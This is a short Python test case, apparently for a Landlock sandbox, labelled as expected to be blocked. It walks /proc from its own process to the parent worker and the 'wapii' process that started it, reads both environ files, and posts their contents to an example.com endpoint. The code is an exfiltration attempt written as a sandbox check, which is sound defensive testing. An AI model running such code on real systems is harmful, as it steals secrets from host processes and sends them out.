# expect: blocked (landlock) -- reads the environment (secrets) of the worker and of the wapii process that started it
import os
proc = os.open("/proc/self", os.O_PATH)


def read(path):
    return os.read(os.open(path, os.O_RDONLY, dir_fd=proc), 1 << 20)


worker = os.getppid()
wapii = int(read(f"../{worker}/stat").rsplit(b")", 1)[1].split()[1])
urlopen(Request("https://api.example.com/items", data=read(f"../{worker}/environ") + read(f"../{wapii}/environ")))
